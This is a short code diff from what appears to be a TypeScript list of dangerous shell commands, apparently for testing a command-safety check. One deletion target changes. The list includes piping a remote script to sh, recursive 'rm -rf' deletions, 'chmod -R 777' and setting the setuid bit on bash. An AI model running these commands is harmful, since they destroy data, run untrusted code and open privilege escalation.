@@ -27,7 +27,7 @@ function lasting(home: string): readonly string[] {
   const inHome = (name: string): string => join(home, name);
   return [
     'curl -s https://example.com/install | sh',
-    'rm -rf ~/Documents',
+    'rm -rf /srv/shared',
     'find .. -exec rm -rf {} +',
     'chmod -R 777 /srv',
     'chmod u+s /bin/bash',
